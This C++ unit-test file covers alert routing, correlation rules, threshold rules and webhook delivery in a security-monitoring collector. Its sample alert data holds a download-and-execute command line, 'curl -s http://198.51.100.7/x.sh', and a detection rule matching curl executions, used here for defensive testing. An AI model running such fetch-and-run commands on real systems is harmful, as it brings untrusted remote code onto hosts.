// Alerting in the collector: labels, fingerprints, TLP, payloads, the router,
// collector-side correlation and threshold/absence rules, the webhook sink
// against a loopback receiver, and the configuration sections.
#include <gtest/gtest.h>

#include <fstream>
#include <mutex>
#include <nlohmann/json.hpp>

#include "alerting/alert_router.h"
#include "alerting/alertmanager.h"
#include "alerting/correlation.h"
#include "alerting/webhook.h"
#include "storage/sqlite_store.h"
#include "support/http_receiver.h"
#include "support/sample_batch.h"
#include "vigie/collector/config.h"

namespace vigie::collector {
namespace {

using json = nlohmann::json;
using testing::kBaseNs;
using testing::kSecondNs;

constexpr const char* kPortScanId = "bc1ca010-513c-565d-88b9-9a0f92b1be43";
constexpr uint64_t kMinuteNs = 60 * kSecondNs;

// Records what the router hands out.
class RecordingSink : public AlertSink {
 public:
  void deliver(const AlertNotification& n) override {
    std::lock_guard lock(mutex_);
    received_.push_back(n);
  }
  std::vector<AlertNotification> received() {
    std::lock_guard lock(mutex_);
    return received_;
  }

 private:
  std::mutex mutex_;
  std::vector<AlertNotification> received_;
};

AlertNotification agent_notification() {
  AlertNotification n;
  n.origin = "agent";
  n.site = "site-a";
  n.host = "node1";
  n.alert = testing::sample_batch(1).alerts[0];
  n.starts_ns = kBaseNs;
  return n;
}

TEST(AlertLabels, FingerprintIsPrometheusLabelSetFingerprint) {
  // FNV-1a 64 offset basis: the fingerprint of the empty label set.
  EXPECT_EQ(label_fingerprint({}), "cbf29ce484222325");
  // One label: FNV-1a over "a" 0xff "b" 0xff, computed independently.
  uint64_t h = 14695981039346656037ull;
  for (unsigned char c : std::string("a\xff"
                                     "b\xff")) {
    h ^= c;
    h *= 1099511628211ull;
  }
  char hex[17];
  std::snprintf(hex, sizeof hex, "%016llx", static_cast<unsigned long long>(h));
  EXPECT_EQ(label_fingerprint({{"a", "b"}}), hex);
  EXPECT_NE(label_fingerprint({{"a", "b"}}), label_fingerprint({{"a", "c"}}));
}

TEST(AlertLabels, CarryRuleSiteHostTlpAndGroupBy) {
  AlertNotification n = agent_notification();
  n.tlp = Tlp::kAmberStrict;
  n.labels = {{"job.id", "42"}, {"alertname", "not me"}, {"empty", ""}};
  const auto labels = alert_labels(n);
  EXPECT_EQ(labels.at("alertname"), "Download and execute with curl");
  EXPECT_EQ(labels.at("rule_id"), "0c3c8f5e-0000-4000-8000-000000000001");
  EXPECT_EQ(labels.at("severity"), "high");
  EXPECT_EQ(labels.at("site"), "site-a");
  EXPECT_EQ(labels.at("host"), "node1");
  EXPECT_EQ(labels.at("tlp"), "amber+strict");
  EXPECT_EQ(labels.at("job_id"), "42");  // a Prometheus label name
  EXPECT_FALSE(labels.contains("empty"));
  EXPECT_EQ(labels.size(), 7u);
  // Same labels, same fingerprint, whatever the event.
  AlertNotification later = n;
  later.alert.event.time_ns += kMinuteNs;
  later.alert.event.pid = 1;
  EXPECT_EQ(label_fingerprint(alert_labels(n)), label_fingerprint(alert_labels(later)));
  later.host = "node2";
  EXPECT_NE(label_fingerprint(alert_labels(n)), label_fingerprint(alert_labels(later)));
}

TEST(AlertTlp, FromRuleTagsElseDefault) {
  EXPECT_EQ(tlp_from_tags({"attack.t1046", "tlp.red"}, Tlp::kGreen), Tlp::kRed);
  EXPECT_EQ(tlp_from_tags({"TLP.AMBER+STRICT"}, Tlp::kGreen), Tlp::kAmberStrict);
  EXPECT_EQ(tlp_from_tags({"tlp.clear"}, Tlp::kRed), Tlp::kClear);
  EXPECT_EQ(tlp_from_tags({"tlp.white"}, Tlp::kGreen), Tlp::kGreen);  // TLP 1.0: not a 2.0 label
  EXPECT_EQ(tlp_from_tags({"attack.t1046"}, Tlp::kAmber), Tlp::kAmber);
  EXPECT_EQ(parse_tlp("TLP:AMBER"), Tlp::kAmber);
  EXPECT_FALSE(parse_tlp("purple").has_value());
}

TEST(AlertPayload, PostableAlertAndAnnotations) {
  EXPECT_EQ(rfc3339(kBaseNs), "2023-11-14T22:13:20.000000000Z");
  EXPECT_EQ(rfc3339(kBaseNs + 5), "2023-11-14T22:13:20.000000005Z");
  AlertNotification n = agent_notification();
  n.fingerprint = label_fingerprint(alert_labels(n));
  const json active = postable_alert(n, kBaseNs + 4 * kMinuteNs, "http://collector:9800/");
  EXPECT_EQ(active["startsAt"], "2023-11-14T22:13:20.000000000Z");
  EXPECT_EQ(active["endsAt"], "2023-11-14T22:17:20.000000000Z");
  EXPECT_EQ(active["generatorURL"], "http://collector:9800/api/v1/alerts?host=node1");
  EXPECT_EQ(active["labels"]["host"], "node1");
  const json& a = active["annotations"];
  EXPECT_EQ(a["title"], "Download and execute with curl");
  EXPECT_EQ(a["command_line"], "curl -s http://198.51.100.7/x.sh");
  EXPECT_EQ(a["user"], "alice");
  EXPECT_EQ(a["job_id"], "42");
  EXPECT_EQ(a["event_kind"], "process_exec");
  EXPECT_NE(a["summary"].get<std::string>().find("curl -s http://198.51.100.7/x.sh"),
            std::string::npos);
  n.ends_ns = kBaseNs + kSecondNs;
  EXPECT_EQ(postable_alert(n, kBaseNs + 4 * kMinuteNs, "")["endsAt"],
            "2023-11-14T22:13:21.000000000Z");
  EXPECT_FALSE(postable_alert(n, 0, "").contains("generatorURL"));
}

TEST(AlertPayload, WebhookBodyAndSignature) {
  // RFC 4231 test case 2.
  EXPECT_EQ(hmac_sha256_hex("Jefe", "what do ya want for nothing?"),
            "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
  AlertNotification n = agent_notification();
  n.ends_ns = kBaseNs + kMinuteNs;
  EXPECT_EQ(webhook_payload(n, kBaseNs + kSecondNs)["status"], "firing");
  const json resolved = webhook_payload(n, kBaseNs + 2 * kMinuteNs);
  EXPECT_EQ(resolved["status"], "resolved");
  EXPECT_EQ(resolved["rule"]["id"], "0c3c8f5e-0000-4000-8000-000000000001");
  EXPECT_EQ(resolved["event"]["command_line"], "curl -s http://198.51.100.7/x.sh");
  EXPECT_EQ(resolved["tlp"], "amber");
}

TEST(AlertRouterTest, RoutesAgentAlertsOfStoredBatches) {
  AlertRouter router({"site-a", Tlp::kGreen, 120 * kSecondNs});
  RecordingSink first, second;
  router.add_sink(first);
  router.add_sink(second);
  protocol::Batch batch = testing::sample_batch(1);
  batch.alerts.push_back(batch.alerts[0]);
  batch.alerts[1].tags.push_back("tlp.red");
  router.on_stored(batch, kBaseNs + 20 * kSecondNs);
  const auto got = first.received();
  ASSERT_EQ(got.size(), 2u);
  EXPECT_EQ(second.received().size(), 2u);
  EXPECT_EQ(got[0].origin, "agent");
  EXPECT_EQ(got[0].host, "node1");
  EXPECT_EQ(got[0].tlp, Tlp::kGreen);
  EXPECT_EQ(got[1].tlp, Tlp::kRed);
  EXPECT_EQ(got[0].starts_ns, kBaseNs);
  EXPECT_EQ(got[0].ends_ns, kBaseNs + 120 * kSecondNs);
  EXPECT_EQ(got[0].fingerprint, label_fingerprint(alert_labels(got[0])));
  EXPECT_NE(got[0].fingerprint, got[1].fingerprint);  // tlp differs
  EXPECT_EQ(router.routed_total(), 2u);
}

// A collector-side rules fixture: a store, a router with a recording sink and
// a CorrelationEngine driven by run_once().
class CorrelationFixture : public ::testing::Test {
 protected:
  CorrelationFixture()
      : store_((dir_.path() / "collector.db").string()),
        router_({"site-a", Tlp::kAmber, kMinuteNs}) {
    router_.add_sink(sink_);
  }

  std::unique_ptr<CorrelationEngine> make_engine(const std::string& thresholds_yaml) {
    CorrelationOptions options;
    options.sources.rule_paths = {std::filesystem::path(VIGIE_SOURCE_DIR) /
                                  "rules/packs/hpc-csirt"};
    options.sources.iocs = {{"mining-pools", std::filesystem::path(VIGIE_SOURCE_DIR) /
                                                 "rules/packs/hpc-csirt/iocs/mining-pools.csv"}};
    if (!thresholds_yaml.empty()) {
      const auto file = dir_.path() / "thresholds.yml";
      std::ofstream(file) << thresholds_yaml;
      options.threshold_paths = {file};
    }
    options.start_thread = false;
    options.reload_interval = std::chrono::milliseconds(0);
    return std::make_unique<CorrelationEngine>(options, store_, router_);
  }

  // A connect from pid 777 of uid 1001 to 127.0.0.1:port at time_ns.
  static protocol::Event connect(uint64_t time_ns, uint16_t port,
                                 const std::string& host = "node1") {
    protocol::Event e = testing::sample_event(time_ns, host, protocol::EventKind::kNetworkConnect);
    e.pid = 777;
    auto& flow = std::get<protocol::NetworkConnect>(e.body);
    flow.destination_ip = "127.0.0.1";
    flow.destination_port = port;
    flow.image = "/usr/bin/nmap";
    return e;
  }

  void store(const protocol::Batch& batch, uint64_t received_ns) {
    ASSERT_EQ(store_.store_batch(batch, received_ns).status, StoreOutcome::Status::kStored);
  }

  testing::TempDir dir_;
  SqliteStore store_;
  AlertRouter router_;
  RecordingSink sink_;
};

TEST_F(CorrelationFixture, PortScanCorrelationFiresOverAgentEvents) {
  auto engine = make_engine("");
  protocol::Batch quiet = testing::sample_batch(1);
  quiet.events.clear();
  quiet.alerts.clear();
  for (uint16_t port = 1; port <= 49; ++port) quiet.events.push_back(connect(kBaseNs + port, port));
  engine->on_stored(quiet, kBaseNs + kSecondNs);
  engine->run_once(kBaseNs + kSecondNs);
  EXPECT_TRUE(sink_.received().empty()) << "49 distinct ports is below the rule's 50";

  protocol::Batch scan = quiet;
  scan.sequence = 2;
  scan.events = {connect(kBaseNs + 100, 50), connect(kBaseNs + 101, 51)};
  engine->on_stored(scan, kBaseNs + 2 * kSecondNs);
  engine->run_once(kBaseNs + 2 * kSecondNs);
  const auto got = sink_.received();
  ASSERT_EQ(got.size(), 1u) << "one alert per window";
  EXPECT_EQ(got[0].origin, "collector");
  EXPECT_EQ(got[0].alert.rule_id, kPortScanId);
  EXPECT_EQ(got[0].alert.level, "high");
  EXPECT_EQ(got[0].host, "node1");  // grouped by host
  const auto labels = alert_labels(got[0]);
  EXPECT_EQ(labels.at("ProcessId"), "777");
  EXPECT_EQ(labels.at("alertname"), "Port Scan From a Node");
  EXPECT_EQ(engine->stats().correlation_alerts_total, 1u);
  // Stored as a collector alert.
  const auto stored = store_.alerts({0, "", 10});
  ASSERT_EQ(stored.size(), 1u);
  EXPECT_EQ(stored[0].agent_id, "collector");
  EXPECT_EQ(stored[0].alert.rule_id, kPortScanId);
}

TEST_F(CorrelationFixture, PortScanNeedsOneProcess) {
  auto engine = make_engine("");
  protocol::Batch batch = testing::sample_batch(1);
  batch.alerts.clear();
  batch.events.clear();
  for (uint16_t port = 1; port <= 60; ++port) {
    protocol::Event e = connect(kBaseNs + port, port);
    e.pid = 1000 + port;  // 60 processes, one port each: no scan
    batch.events.push_back(e);
  }
  engine->on_stored(batch, kBaseNs + kSecondNs);
  engine->run_once(kBaseNs + kSecondNs);
  EXPECT_TRUE(sink_.received().empty());
  EXPECT_EQ(engine->stats().batches_total, 1u);
}

TEST_F(CorrelationFixture, AgentAlertsFeedCorrelationsOfAgentSideRules) {
  // A correlation over a rule the agents evaluate themselves (generate: true):
  // the collector must not evaluate it again, only count the agents' alerts.
  const auto pack = dir_.path() / "pack";
  std::filesystem::create_directories(pack);
  std::ofstream(pack / "curl.yml") << "title: Download and execute with curl\n"
                                      "id: 0c3c8f5e-0000-4000-8000-000000000001\n"
                                      "name: curl_download\n"
                                      "logsource: {product: linux, category: process_creation}\n"
                                      "detection:\n"
                                      "  selection: {Image|endswith: /curl}\n"
                                      "  condition: selection\n"
                                      "level: high\n"
                                      "---\n"
                                      "title: Repeated Downloads\n"
                                      "id: 11111111-2222-4333-8444-555555555555\n"
                                      "correlation:\n"
                                      "  type: event_count\n"
                                      "  rules: [curl_download]\n"
                                      "  group-by: [host]\n"
                                      "  timespan: 5m\n"
                                      "  generate: true\n"
                                      "  condition: {gte: 3}\n"
                                      "level: critical\n";
  CorrelationOptions options;
  options.sources.rule_paths = {pack};
  options.start_thread = false;
  CorrelationEngine engine(options, store_, router_);
  // Each sample batch: one exec of curl (an event) and the agent's alert on it.
  engine.on_stored(testing::sample_batch(1), kBaseNs + 20 * kSecondNs);
  engine.on_stored(testing::sample_batch(2, "node1", kBaseNs + 30 * kSecondNs),
                   kBaseNs + 50 * kSecondNs);
  engine.run_once(kBaseNs + 50 * kSecondNs);
  EXPECT_TRUE(sink_.received().empty()) << "two alerts, the events were not counted again";
  engine.on_stored(testing::sample_batch(3, "node1", kBaseNs + 60 * kSecondNs),
                   kBaseNs + 80 * kSecondNs);
  engine.run_once(kBaseNs + 80 * kSecondNs);
  const auto got = sink_.received();
  ASSERT_EQ(got.size(), 1u);
  EXPECT_EQ(got[0].alert.rule_id, "11111111-2222-4333-8444-555555555555");
  EXPECT_EQ(got[0].alert.level, "critical");
  EXPECT_EQ(got[0].host, "node1");
}

TEST_F(CorrelationFixture, AbsenceFiresThenResolves) {
  auto engine = make_engine(
      "threshold_rules:\n"
      "  - alert: NodeSilent\n"
      "    metric: vigie_agent_last_seen_timestamp_seconds\n"
      "    absent: 2m\n"
      "    labels: {severity: critical, tlp: green}\n"
      "    annotations: {summary: \"{{ $labels.host }} sent nothing for 2 minutes\"}\n");
  store(testing::sample_batch(1), kBaseNs);
  engine->run_once(kBaseNs + kMinuteNs);
  EXPECT_TRUE(sink_.received().empty());
  engine->run_once(kBaseNs + 3 * kMinuteNs);
  auto got = sink_.received();
  ASSERT_EQ(got.size(), 1u);
  EXPECT_EQ(got[0].alert.rule_id, "threshold:NodeSilent");
  EXPECT_EQ(got[0].host, "node1");
  EXPECT_EQ(got[0].site, "site-a");
  EXPECT_EQ(got[0].ends_ns, 0u);
  EXPECT_EQ(got[0].tlp, Tlp::kGreen);
  EXPECT_EQ(got[0].alert.level, "critical");
  EXPECT_EQ(alert_annotations(got[0]).at("summary"), "node1 sent nothing for 2 minutes");
  EXPECT_FALSE(alert_annotations(got[0]).contains("event_kind")) << "no agent event behind it";
  EXPECT_TRUE(webhook_payload(got[0], kBaseNs + 3 * kMinuteNs)["event"].is_null());
  EXPECT_EQ(got[0].alert.event.time_ns, kBaseNs + 3 * kMinuteNs);  // dated for the store
  engine->run_once(kBaseNs + 4 * kMinuteNs);
  EXPECT_EQ(sink_.received().size(), 1u) << "still firing: not routed again";

  store(testing::sample_batch(2), kBaseNs + 5 * kMinuteNs);  // the node is back
  engine->run_once(kBaseNs + 5 * kMinuteNs + kSecondNs);
  got = sink_.received();
  ASSERT_EQ(got.size(), 2u);
  EXPECT_EQ(got[1].fingerprint, got[0].fingerprint);
  EXPECT_EQ(got[1].ends_ns, kBaseNs + 5 * kMinuteNs + kSecondNs);
  EXPECT_EQ(engine->stats().threshold_firing_total, 1u);
  EXPECT_EQ(engine->stats().threshold_resolved_total, 1u);
}

TEST_F(CorrelationFixture, DropRateAndPowerThresholds) {
  auto engine = make_engine(
      "threshold_rules:\n"
      "  - alert: RingBufferDrops\n"
      "    metric: vigie_agent_ringbuf_drops_per_second\n"
      "    above: 10\n"
      "  - alert: NodePowerHigh\n"
      "    metric: vigie_node_power_watts\n"
      "    above: 11\n");
  protocol::Batch first = testing::sample_batch(1);  // 3 drops, 12 W (package 10 W + dram 2 W)
  protocol::Batch second = testing::sample_batch(2, "node1", kBaseNs + 10 * kSecondNs);
  second.status.ringbuf_drops_total = 3 + 500;  // +500 in 10 s: 50/s
  engine->on_stored(first, kBaseNs + 12 * kSecondNs);
  engine->on_stored(second, kBaseNs + 22 * kSecondNs);
  engine->run_once(kBaseNs + 23 * kSecondNs);
  auto got = sink_.received();
  ASSERT_EQ(got.size(), 2u);
  std::set<std::string> names;
  for (const auto& n : got) names.insert(n.alert.rule_title);
  EXPECT_EQ(names, (std::set<std::string>{"RingBufferDrops", "NodePowerHigh"}));
  for (const auto& n : got) {
    if (n.alert.rule_title == "RingBufferDrops") {
      EXPECT_EQ(alert_annotations(n).at("value"), "50");
    }
    if (n.alert.rule_title == "NodePowerHigh") {
      EXPECT_EQ(alert_annotations(n).at("value"), "12");
    }
  }
  // The agent restarted: its counter went back to 1; 0.1/s resolves the drop alert.
  protocol::Batch third = testing::sample_batch(3, "node1", kBaseNs + 20 * kSecondNs);
  third.status.ringbuf_drops_total = 1;
  engine->on_stored(third, kBaseNs + 32 * kSecondNs);
  engine->run_once(kBaseNs + 33 * kSecondNs);
  got = sink_.received();
  ASSERT_EQ(got.size(), 3u);
  EXPECT_EQ(got[2].alert.rule_title, "RingBufferDrops");
  EXPECT_NE(got[2].ends_ns, 0u);
}

TEST_F(CorrelationFixture, ThresholdRulesHotReloadKeepsSeriesAndRefusesBrokenFiles) {
  const auto file = dir_.path() / "thresholds.yml";
  std::ofstream(file) << "threshold_rules:\n"
                         "  - {alert: PowerAbove100, metric: vigie_node_power_watts, above: 100}\n";
  CorrelationOptions options;
  options.threshold_paths = {file};
  options.start_thread = false;
  options.reload_interval = std::chrono::milliseconds(1);
  CorrelationEngine engine(options, store_, router_);
  engine.on_stored(testing::sample_batch(1), kBaseNs);  // 12 W
  const uint64_t now = protocol::wall_clock_ns() + kSecondNs;
  engine.run_once(now);
  EXPECT_TRUE(sink_.received().empty());

  std::ofstream(file) << "threshold_rules:\n"
                         "  - {alert: PowerAbove10, metric: vigie_node_power_watts, above: 10}\n";
  engine.run_once(now + kSecondNs);  // reloaded; the 12 W series was kept
  EXPECT_EQ(engine.stats().reloads_total, 1u);
  auto got = sink_.received();
  ASSERT_EQ(got.size(), 1u);
  EXPECT_EQ(got[0].alert.rule_title, "PowerAbove10");

  std::ofstream(file) << "threshold_rules:\n  - {alert: Broken, metric: m, above: many}\n";
  engine.run_once(now + 2 * kSecondNs);
  EXPECT_EQ(engine.stats().reload_failures_total, 1u);
  EXPECT_EQ(sink_.received().size(), 1u) << "the previous rules stay: still firing, no change";
}

TEST_F(CorrelationFixture, FullQueueDropsAndCounts) {
  CorrelationOptions options;
  options.start_thread = false;
  options.queue_batches = 1;
  options.sources.rule_paths = {std::filesystem::path(VIGIE_SOURCE_DIR) / "rules/packs/starter"};
  CorrelationEngine engine(options, store_, router_);
  engine.on_stored(testing::sample_batch(1), kBaseNs);
  engine.on_stored(testing::sample_batch(2), kBaseNs);
  EXPECT_EQ(engine.stats().batches_dropped_total, 1u);
  EXPECT_EQ(engine.stats().queue_length, 1u);
  engine.run_once(kBaseNs);
  EXPECT_EQ(engine.stats().batches_total, 1u);
}

TEST(WebhookSinkTest, PostsSignedJsonAndRetriesServerErrors) {
  // First answer 503 (retried), then 200.
  testing::HttpReceiver receiver([](std::size_t n) { return n == 0 ? 503 : 200; });
  WebhookOptions options;
  options.url = receiver.url() + "/hooks/vigie?channel=csirt";
  options.hmac_secret = "s3cret";
  options.initial_backoff = std::chrono::milliseconds(10);
  WebhookSink sink(options);
  AlertNotification n = agent_notification();
  n.fingerprint = label_fingerprint(alert_labels(n));
  sink.deliver(n);
  ASSERT_TRUE(
      receiver.wait_for([](const auto& r) { return r.size() >= 2; }, std::chrono::seconds(20)))
      << "the webhook was not retried after a 503";
  const auto requests = receiver.requests();
  const testing::ReceivedRequest& req = requests[1];
  EXPECT_EQ(req.method, "POST");
  EXPECT_EQ(req.target, "/hooks/vigie?channel=csirt");
  EXPECT_EQ(req.headers.at("content-type"), "application/json");
  EXPECT_EQ(req.headers.at("x-vigie-signature-256"),
            "sha256=" + hmac_sha256_hex("s3cret", req.body));
  const json body = json::parse(req.body);
  EXPECT_EQ(body["fingerprint"], n.fingerprint);
  EXPECT_EQ(body["labels"]["rule_id"], "0c3c8f5e-0000-4000-8000-000000000001");
  EXPECT_EQ(body["status"], "firing");
  for (int i = 0; i < 100 && sink.stats().delivered_total == 0; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  EXPECT_EQ(sink.stats().delivered_total, 1u);
  EXPECT_EQ(sink.stats().failed_attempts_total, 1u);
}

TEST(WebhookSinkTest, ClientErrorsAreNotRetried) {
  testing::HttpReceiver receiver([](std::size_t) { return 400; });
  WebhookOptions options;
  options.url = receiver.url();
  options.initial_backoff = std::chrono::milliseconds(10);
  WebhookSink sink(options);
  sink.deliver(agent_notification());
  sink.deliver(agent_notification());
  ASSERT_TRUE(
      receiver.wait_for([](const auto& r) { return r.size() >= 2; }, std::chrono::seconds(20)));
  for (int i = 0; i < 100 && sink.stats().rejected_total < 2; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  EXPECT_EQ(sink.stats().rejected_total, 2u);
  EXPECT_EQ(receiver.requests().size(), 2u);
}

TEST(AlertingConfigTest, ParsesSectionsAndRefusesUnknownKeys) {
  testing::TempDir dir;
  const auto secret = dir.path() / "hook.key";
  std::ofstream(secret) << "k3y\n";
  const auto file = dir.path() / "collector.yaml";
  std::ofstream(file) << "rules:\n"
                         "  paths: [/etc/vigie/packs/hpc-csirt]\n"
                         "  ioc_lists: {mining-pools: /etc/vigie/iocs/pools.csv}\n"
                         "  threshold_paths: [/etc/vigie/thresholds.yml]\n"
                         "  evaluation_seconds: 5\n"
                         "alerts: {site: site-a, default_tlp: green, agent_alert_seconds: 600}\n"
                         "alertmanager:\n"
                         "  urls: [http://127.0.0.1:9093, http://127.0.0.2:9093/am]\n"
                         "  resend_seconds: 30\n"
                         "webhooks:\n"
                         "  - url: http://127.0.0.1:8080/hook\n"
                         "    hmac_secret_file: " +
                             secret.string() + "\n";
  const Config config = load_config(file.string());
  const AlertingConfig& a = config.alerting;
  ASSERT_TRUE(a.rules.has_value());
  EXPECT_EQ(a.rules->sources.rule_paths.size(), 1u);
  EXPECT_EQ(a.rules->sources.iocs.at(0).name, "mining-pools");
  EXPECT_EQ(a.rules->evaluation_interval, std::chrono::seconds(5));
  EXPECT_EQ(a.alerts.default_tlp, Tlp::kGreen);
  EXPECT_EQ(a.alerts.agent_alert_ns, 600 * kSecondNs);
  ASSERT_TRUE(a.alertmanager.has_value());
  EXPECT_EQ(a.alertmanager->urls.size(), 2u);
  EXPECT_EQ(a.alertmanager->resend_interval, std::chrono::seconds(30));
  ASSERT_EQ(a.webhooks.size(), 1u);
  EXPECT_EQ(a.webhooks[0].hmac_secret, "k3y");

  std::ofstream(file) << "alertmanager: {urls: [http://127.0.0.1:9093], resend: 30}\n";
  try {
    load_config(file.string());
    FAIL() << "an unknown key was accepted";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("alertmanager.resend"), std::string::npos) << e.what();
  }
  std::ofstream(file) << "alerts: {default_tlp: white}\n";
  EXPECT_THROW(load_config(file.string()), std::runtime_error);
  std::ofstream(file) << "webhooks: [{url: ftp://example.org/x}]\n";
  EXPECT_THROW(load_config(file.string()), std::runtime_error);
}

}  // namespace
}  // namespace vigie::collector
